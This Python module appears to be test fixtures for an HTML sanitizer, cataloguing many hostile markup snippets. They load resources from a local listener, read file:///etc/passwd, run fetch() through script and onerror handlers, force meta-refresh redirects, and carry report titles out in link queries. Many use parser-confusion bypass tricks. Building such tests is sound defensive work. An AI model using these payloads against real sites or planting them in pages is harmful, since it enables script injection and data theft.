"""Markup of strangers that would load something, or lead a browser away from the page.

`0PORT0` stands for the port of somebody who listens.
"""

from __future__ import annotations

import base64

HERE = "http://127.0.0.1:0PORT0"


def _drawing(markup: str) -> str:
    return "data:image/svg+xml;base64," + base64.b64encode(markup.encode()).decode()


#: What a browser loads by itself when it shows the page.
LOADED = {
    "attachment": "<link rel=attachment href='file:///etc/passwd'>",
    "stylesheet": f"<link rel=stylesheet href='{HERE}/c'>",
    "preload": f"<link rel=preload as=image href='{HERE}/c'>",
    "prefetch": f"<link rel=prefetch href='{HERE}/c'>",
    "preconnect": f"<link rel=preconnect href='{HERE}/c'>",
    "icon": f"<link rel=icon href='{HERE}/c'>",
    "manifest": f"<link rel=manifest href='{HERE}/c'>",
    "module preload": f"<link rel=modulepreload href='{HERE}/c'>",
    "image": f"<img src={HERE}/x>",
    "image without scheme": "<img src=//127.0.0.1:0PORT0/x>",
    "image of a file": "<img src=/etc/passwd>",
    "image by another name": f"<image src={HERE}/x>",
    "image set": f"<img srcset='{HERE}/x 2x'>",
    "several images": f"<img srcset='data:, 1x, {HERE}/x 2x'>",
    "picture": f"<picture><source srcset='{HERE}/x'><img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='></picture>",
    "button of an image": f"<input type=image src={HERE}/x>",
    "background of the page": f"<body background='{HERE}/x'>",
    "background of a cell": f"<table background='{HERE}/x'><tr><td background='{HERE}/y'>x",
    "import": f"<style>@import url({HERE}/c)</style>",
    "import as text": f"<style>@import '{HERE}/c'</style>",
    "import in capitals": f"<STYLE>@IMPORT \"{HERE}/c\"</STYLE>",
    "background": "<style>p{background:url(file:///etc/passwd)}</style>",
    "background in an attribute": f"<p style='background:url({HERE}/)'>x",
    "background in an address of characters": f"<p style='background:&#117;rl({HERE}/)'>x",
    "escaped url": f"<style>p{{background:u\\72l({HERE}/)}}</style>",
    "escaped import": f"<style>@\\69mport '{HERE}/'</style>",
    "image-set": f"<style>p{{background:image-set('{HERE}/' 1x)}}</style>",
    "image-set of old": f"<style>p{{background:-webkit-image-set(url({HERE}/) 1x)}}</style>",
    "image-set by a variable": f"<style>p{{--u:'{HERE}/';background:image-set(var(--u) 1x)}}</style>",
    "cross-fade": f"<style>p{{background:-webkit-cross-fade(url({HERE}/),url(data:,),50%)}}</style>",
    "cursor": f"<style>p{{cursor:url({HERE}/),auto}}</style>",
    "list marks": f"<style>li{{list-style-image:url({HERE}/)}}</style><ul><li>x</ul>",
    "content": f"<style>p::before{{content:url({HERE}/)}}</style>",
    "a style for paper": f"<style media=all>p{{background:url({HERE}/)}}</style>",
    "font": f"<style>@font-face{{font-family:x;src:url({HERE}/f)}}p{{font-family:x}}</style>",
    "comment in quotes": f"<style>p{{content:'/*';background:url({HERE}/);content:'*/'}}</style>",
    "style that stays open": f"<style>p{{background:url({HERE}/)",
    "style whose address stays open": f"<style>p{{background:url({HERE}/x",
    "style whose text stays open": f"<style>@import '{HERE}/x",
    "comment of a style that stays open": f"<style>@import '{HERE}/x';/*",
    "style after an open style in a drawing": f"<svg><style><p></style><img src={HERE}/>",
    "drawing": f"<svg><image href='{HERE}/s'/></svg>",
    "drawing of old": f"<svg><image xlink:href='{HERE}/s'/></svg>",
    "use": f"<svg><use href='{HERE}/s#a'/></svg>",
    "use of data": "<svg><use href='data:image/svg+xml,<svg id=a xmlns=\"http://www.w3.org/2000/svg\"/>#a'/></svg>",
    "filter image": f"<svg><filter id=f><feImage href='{HERE}/s'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "paint": f"<svg><rect fill='url({HERE}/#a)'/></svg>",
    "mask": f"<svg><rect mask='url({HERE}/#a)' width=9 height=9 /></svg>",
    "clip": f"<svg><rect style='clip-path:url({HERE}/#a)' width=9 height=9 /></svg>",
    "set": f"<svg><image><set attributeName=href to='{HERE}/'/></image></svg>",
    "animate": f"<svg><image><animate attributeName=href values='{HERE}/;{HERE}/2' dur=1s /></image></svg>",
    "style in a drawing": f"<svg><style><img src={HERE}/></style></svg>",
    "page in a drawing": f"<svg><foreignObject><img src={HERE}/></foreignObject></svg>",
    "tag that breaks out of a drawing": f"<svg><desc><p><img src={HERE}/>",
    "object": f"<object data='{HERE}/o'></object>",
    "embedded": f"<embed src='{HERE}/o'>",
    "frame": "<iframe src='file:///etc/passwd'></iframe>",
    "frame of the network": f"<iframe src='{HERE}/'></iframe>",
    "frame of its own": f"<iframe srcdoc='<img src={HERE}/>'></iframe>",
    "frames": f"<frameset><frame src='{HERE}/'></frameset>",
    "video": f"<video src='{HERE}/' poster='{HERE}/p' autoplay></video>",
    "sound": f"<audio src='{HERE}/' autoplay></audio>",
    "subtitles": f"<video><track src='{HERE}/' default></video>",
    "base": f"<base href='{HERE}/'><img src=x>",
    "script": f"<script>fetch('{HERE}/')</script>",
    "script of the network": f"<script src='{HERE}/'></script>",
    "handler": "<p onclick='x'>x",
    "handler of a fault": f"<img src='data:,' onerror=\"fetch('{HERE}/')\">",
    "comment that ends early": f"<!--><img src={HERE}/>-->",
    "comment that ends otherwise": f"<!-- --!><img src={HERE}/>-->",
    "comment that ends with two dashes": f"<!---><img src={HERE}/>-->",
    "comment that stays open": f"<!-- <img src={HERE}/>",
    "character data": f"<![CDATA[><img src={HERE}/>]]>",
    "character data in a drawing": f"<svg><![CDATA[</svg><img src={HERE}/>]]></svg>",
    "processing instruction": f"<?x ><img src={HERE}/>?>",
    "title that stays open": f"<title></titl><img src={HERE}/>",
    "title in an attribute": f"<title><p title='</title><img src={HERE}/>'>",
    "noscript": f"<noscript><p title='</noscript><img src={HERE}/>'></noscript>",
    "text area": f"<textarea><p title='</textarea><img src={HERE}/>'></textarea>",
    "plain": f"<xmp><p title='</xmp><img src={HERE}/>'></xmp>",
    "template": f"<template shadowrootmode=open><img src={HERE}/></template>",
    "formula": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src={HERE}/&gt;'>",
    "table out of place": f"<table><style><tr><td><!--</style><img src={HERE}/>-->",
    "attribute without its quote": f"<p title='><img src={HERE}/>",
    "two attributes of one name": f"<img src={HERE}/ src='data:,'>",
    "slash for a space": f"<img/src={HERE}/>",
    "line break for a space": f"<img\nsrc\n=\n{HERE}/>",
    "zero byte": f"<img src=\0{HERE}/>",
    "encoding that hides quotes": f"<meta charset=iso-2022-jp><p title='\x1b$B'><img src={HERE}/>",
    "encoding named another way": "<meta http-equiv=Content-Type content='text/html'><meta charset=utf-16>",
    "speculation": f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{HERE}/\"]}}]}}</script>",
    "lookup of names": "<meta http-equiv=x-dns-prefetch-control content=on>",
    "a drawing in base64": f"<img src='{_drawing('''<svg><image href='file:///etc/passwd'/></svg>''')}'>",
    "a drawing that declares": "<img src='"
    + _drawing('<!DOCTYPE s [<!ENTITY x "file:///etc/passwd">]><svg><image href="&x;"/></svg>') + "'>",
    "a drawing with a style sheet": "<img src='"
    + _drawing('<?xml-stylesheet href="file:///etc/passwd"?><svg xmlns="http://www.w3.org/2000/svg"/>') + "'>",
    "a drawing inside an address": "<img src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' "
    "xmlns:x='http://www.w3.org/1999/xlink'%3E%3Cimage width='9' height='9' x:href='file:///etc/passwd'/%3E"
    "%3C/svg%3E\">",
}  # fmt: skip

#: What leads the browser to another page; a policy in the page does not keep it from that.
LEADING = {
    "refresh": f"<meta http-equiv=refresh content='0;url={HERE}/refresh'>",
    "refresh after an open style": f"<style></styl><meta http-equiv=refresh content='0;url={HERE}/style'>",
    "refresh under an open style": f"</style><meta http-equiv=refresh content='0;url={HERE}/under'><style>",
    "refresh in a drawing": f"<svg><style><meta http-equiv=refresh content='0;url={HERE}/drawing'>",
    "refresh in capitals": f"<META HTTP-EQUIV='ReFresh' CONTENT='0;URL={HERE}/capitals'>",
    "refresh by characters": f"<meta http-equiv='&#114;efresh' content='0;url={HERE}/characters'>",
    "refresh after a comment": f"<!--><meta http-equiv=refresh content='0;url={HERE}/comment'>-->",
    "refresh in a comment": f"<!-- <meta http-equiv=refresh content='0;url={HERE}/'> -->",
}  # fmt: skip

#: What waits for the reader's hand.
WAITING = {
    "javascript": "<a href='javascript:x'>x</a>",
    "javascript with a tab": "<a href='java\tscript:x'>x</a>",
    "data": "<a href='data:text/html,<p>x'>x</a>",
    "link of a file": "<a href='file:///etc/passwd'>x</a>",
    "link of no scheme": "<a href='//127.0.0.1:0PORT0/'>x</a>",
    "link that carries the report": f"<a href='{HERE}/?{{{{ report.title }}}}'>x</a>",
    "link in an image": f"<map><area href='{HERE}/?{{{{ report.title }}}}'></map>",
    "link in a drawing": f"<svg><a xlink:href='{HERE}/?{{{{ report.title }}}}'><text>x</text></a></svg>",
    "ping": f"<a href='#x' ping='{HERE}/'>x</a>",
    "form": f"<form action='{HERE}/'></form>",
    "button of a form": f"<button formaction='{HERE}/'>x</button>",
    "opener": f"<a href='{HERE}/' target=_blank rel=opener>x</a>",
    "policy of referring": "<meta name=referrer content=unsafe-url>",
}  # fmt: skip

OUTSIDE = {**LOADED, **LEADING, **WAITING}
